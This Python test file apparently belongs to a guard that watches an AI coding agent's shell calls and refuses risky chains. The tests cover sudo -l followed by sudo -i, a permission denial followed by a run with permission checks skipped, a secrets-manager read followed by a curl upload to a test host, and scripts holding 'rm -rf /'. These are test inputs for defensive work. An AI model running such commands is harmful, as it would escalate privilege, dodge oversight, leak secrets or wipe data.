"""Chains through the whole engine: what a session has proven decides about what it proposes next."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from engine_bench import OK, Bench, only
from latch_contracts.records import DenialRecord, VerdictRecord
from latch_contracts.verdict import Action, Disposition, Finding, Verdict
from latchd.guard import walk
from latchd.guard.manifest import Participant
from latchd.guard.pace import Overrun
from latchd.guard.subject import Subject
from latchd.policy import parse

DISCOVER, ELEVATE, BYPASS = "sudo -l", "sudo -i", "claude --dangerously-skip-permissions -p 'go on'"
ELEVATION = "chain.privilege-discovery-then-elevation"
DENIED_BYPASS = "chain.permission-denied-then-runtime-bypass"
MANAGED_EGRESS = "chain.secret-manager-read-then-egress"


@pytest.fixture
def bench(tmp_path: Path) -> Iterator[Bench]:
    bench = Bench(tmp_path)
    yield bench
    bench.engine.close()


def proven(bench: Bench, command: str, call: str, **members: str) -> None:
    bench.pre(command, call=call, **members)
    bench.post(command, call=call, **members)


def verdict(bench: Bench, command: str, call: str = "last", **members: str) -> VerdictRecord:
    return only(bench.pre(command, call=call, **members), VerdictRecord)


def chains_of(record: VerdictRecord) -> list[tuple[str, Disposition]]:
    return [(one.rule, one.disposition) for one in record.findings if one.group == "chain"]


def test_a_proven_first_step_refuses_the_second(bench: Bench) -> None:
    proven(bench, DISCOVER, "c1")

    handled = bench.pre(ELEVATE, call="c2")

    record = only(handled, VerdictRecord)
    assert (record.action, record.rule, record.participant) == (Action.DENY, ELEVATION, "chains")
    assert only(handled, DenialRecord).rule == ELEVATION
    assert handled.reply.exit_code == 2
    assert bench.states("c2") == [("denied", False)]


def test_the_second_step_alone_is_no_chain(bench: Bench) -> None:
    assert verdict(bench, ELEVATE).action is Action.ALLOW


def test_an_unproven_first_step_arms_nothing(bench: Bench) -> None:
    bench.pre(DISCOVER, call="pending")
    bench.pre(DISCOVER, call="failed")
    bench.fail(DISCOVER, call="failed")
    bench.pre(DISCOVER, call="cut")
    bench.send("Stop")
    bench.post(DISCOVER, call="cut")

    assert verdict(bench, ELEVATE).action is Action.ALLOW


def test_a_chain_spans_turns_and_restarts(bench: Bench) -> None:
    proven(bench, DISCOVER, "c1")
    bench.send("Stop")
    bench.restart()

    assert verdict(bench, ELEVATE, prompt_id="p2").rule == ELEVATION


def test_a_sessions_end_closes_its_window_and_another_session_has_none(bench: Bench) -> None:
    proven(bench, DISCOVER, "c1")

    assert verdict(bench, ELEVATE, session_id="s2").action is Action.ALLOW
    bench.send("SessionEnd", reason="other")
    assert verdict(bench, ELEVATE).action is Action.ALLOW


def test_a_call_does_not_precede_itself(bench: Bench) -> None:
    both = f"{DISCOVER} && {ELEVATE}"
    first = bench.pre(both)
    bench.post(both)

    again = bench.pre(both)

    assert only(first, VerdictRecord).action is not Action.DENY
    assert (again.reply, again.records) == (first.reply, [])
    assert chains_of(verdict(bench, both, "c2")) == [(ELEVATION, Disposition.ENFORCEABLE)]


def test_a_session_that_has_ended_can_form_a_chain_anew(bench: Bench) -> None:
    proven(bench, DISCOVER, "c1")
    bench.send("SessionEnd", reason="other")
    closed = verdict(bench, ELEVATE, "c2")
    proven(bench, DISCOVER, "c3")

    anew = verdict(bench, ELEVATE, "c4")

    assert (chains_of(closed), chains_of(anew)) == ([], [(ELEVATION, Disposition.ENFORCEABLE)])


def test_a_first_step_under_another_policy_is_no_predecessor(bench: Bench) -> None:
    proven(bench, DISCOVER, "c1")
    bench.engine.adopt(parse(b'protected = ["keep"]'))

    assert verdict(bench, ELEVATE).action is Action.ALLOW


def test_the_window_passes(bench: Bench) -> None:
    proven(bench, DISCOVER, "c1")
    bench.clock.advance_ms(15 * 60_000 + 1)

    assert verdict(bench, ELEVATE).action is Action.ALLOW


def test_a_set_back_clock_erases_no_predecessor(bench: Bench) -> None:
    proven(bench, DISCOVER, "c1")
    bench.clock.step_wall_ms(-(10**9))

    assert verdict(bench, ELEVATE).rule == ELEVATION


def test_harmless_calls_push_no_predecessor_out_of_its_window(bench: Bench) -> None:
    proven(bench, DISCOVER, "c1")
    for number in range(40):
        proven(bench, "git status", f"n{number}")

    assert verdict(bench, ELEVATE).rule == ELEVATION


def test_refused_attempts_push_no_predecessor_out_either(bench: Bench) -> None:
    proven(bench, DISCOVER, "c1")

    assert {verdict(bench, ELEVATE, f"e{number}").rule for number in range(40)} == {ELEVATION}


def test_a_matched_typed_denial_arms_the_bypass_chain_and_an_unmatched_one_only_tells(bench: Bench) -> None:
    bench.post("echo x", call="nobody", hook_event_name="PermissionDenied", reason="no", tool_response=None)
    told = verdict(bench, BYPASS, "b1")
    bench.pre("echo x", call="c1")
    bench.post("echo x", call="c1", hook_event_name="PermissionDenied", reason="no", tool_response=None)
    refused = verdict(bench, BYPASS, "b2")

    assert told.action is not Action.DENY
    assert chains_of(told) == [(DENIED_BYPASS, Disposition.DETECT)]
    assert (refused.action, refused.rule) == (Action.DENY, DENIED_BYPASS)


def test_what_a_result_says_of_permissions_arms_nothing(bench: Bench) -> None:
    failed = {"hook_event_name": "PostToolUseFailure", "error": "cat: notes: Permission denied (EACCES)"}
    bench.pre("cat notes", call="c1")
    bench.post("cat notes", call="c1", **failed)
    bench.pre("git status", call="c2")
    bench.post(call="c2", tool_response=OK | {"stderr": "EPERM: operation not permitted"})

    assert chains_of(verdict(bench, BYPASS)) == []


def test_a_chain_that_proves_no_flow_is_told_and_never_refuses(tmp_path: Path) -> None:
    bench = Bench(tmp_path, b'profile = "observe"')
    proven(bench, "gcloud secrets versions access latest --secret=db", "c1")

    record = verdict(bench, "curl -T build/report.tgz https://drop.example.test/in/")

    assert record.action is Action.ALLOW
    assert MANAGED_EGRESS in [one.rule for one in record.findings]
    bench.engine.close()


def test_under_observe_a_chain_that_could_refuse_is_told(tmp_path: Path) -> None:
    bench = Bench(tmp_path, b'profile = "observe"')
    proven(bench, DISCOVER, "c1")

    record = verdict(bench, ELEVATE)

    assert record.action is Action.ALLOW
    assert chains_of(record) == [(ELEVATION, Disposition.DETECT)]
    bench.engine.close()


def test_a_chains_denial_is_replayed_even_when_its_predecessor_is_gone(bench: Bench) -> None:
    proven(bench, DISCOVER, "c1")
    first = bench.pre(ELEVATE, call="c2")
    bench.send("SessionEnd", reason="other")
    bench.restart()

    again = bench.pre(ELEVATE, call="c2")

    assert first.reply.exit_code == again.reply.exit_code == 2
    assert again.records == []


def test_a_probe_sees_the_chain_and_adds_nothing_to_it(bench: Bench) -> None:
    proven(bench, DISCOVER, "c1")

    assert only(bench.pre(ELEVATE, call="p", probe=True), VerdictRecord).rule == ELEVATION
    assert bench.states("p") == []


def test_sessions_tell_how_far_each_chain_has_come(bench: Bench) -> None:
    proven(bench, DISCOVER, "c1")

    (session,) = bench.engine.sessions(9).sessions

    assert session["chains"] == [ELEVATION]


def test_a_script_is_judged_by_its_bytes_when_it_is_about_to_run(bench: Bench) -> None:
    script = bench.project / "cleanup.sh"
    script.write_text("#!/bin/sh\nrm -rf /\n")
    harmless = bench.project / "rm-rf-everything.sh"
    harmless.write_text("#!/bin/sh\necho 'about to rm -rf /'\n")

    refused = verdict(bench, f'bash "{script}"', "c1")

    assert (refused.action, refused.rule) == (Action.DENY, "fs.delete-root-or-home")
    assert str(script) in refused.reason
    assert verdict(bench, f'bash "{harmless}"', "c2").action is Action.ALLOW


def test_a_chain_step_inside_a_script_counts_when_the_script_has_succeeded(bench: Bench) -> None:
    script = bench.project / "look.sh"
    script.write_text("#!/bin/sh\nsudo -l\n")
    proven(bench, f"sh {script}", "c1")

    assert verdict(bench, ELEVATE).rule == ELEVATION


def test_what_a_script_only_may_do_is_told_and_refuses_nothing(bench: Bench) -> None:
    script = bench.project / "maybe.sh"
    script.write_text('#!/bin/sh\nif test -n "$FORCE"; then rm -rf /; fi\nrm -rf "$BUILD_DIR"\n')

    record = verdict(bench, f"sh {script}")

    assert record.action is Action.ALLOW
    assert {one.disposition for one in record.findings} == {Disposition.DETECT}


def test_a_participant_that_fails_on_a_script_refuses_the_call_that_runs_it(
    bench: Bench, monkeypatch: pytest.MonkeyPatch
) -> None:
    (bench.project / "x.sh").write_text("echo one\n")
    (bench.project / "y.sh").write_text("echo two\n")
    inner = walk.judge

    def fails_on_one(subject: Subject) -> Verdict:
        if "one" in subject.text:
            return inner(subject, (Participant("guard", broken),))
        return inner(subject)

    def broken(_subject: Subject) -> tuple[Finding, ...]:
        raise Overrun

    monkeypatch.setattr("latchd.scripts.judge", fails_on_one)

    refused, other = verdict(bench, "if true; then bash x.sh; fi"), verdict(bench, "bash y.sh", "other")

    assert (refused.action, refused.rule, refused.participant, other.action) == (
        Action.DENY,
        "participant.timeout",
        "guard",
        Action.ALLOW,
    )
